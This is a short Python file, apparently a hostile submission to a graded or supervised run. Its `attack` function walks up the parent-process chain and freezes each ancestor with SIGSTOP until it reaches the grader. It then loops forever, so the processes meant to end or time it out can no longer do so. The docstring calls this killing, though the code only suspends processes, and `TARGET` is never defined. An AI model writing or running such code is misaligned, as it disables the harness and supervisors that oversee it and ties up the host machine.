"""Kills the process that would have to end it, and all between it and the grader."""

import os
import signal


def attack(A):
    pid = os.getppid()
    while pid not in (TARGET["grader"], 0, 1):
        with open(f"/proc/{pid}/stat") as file:
            above = int(file.read().rpartition(")")[2].split()[1])
        os.kill(pid, signal.SIGSTOP)
        pid = above
    while True:
        pass
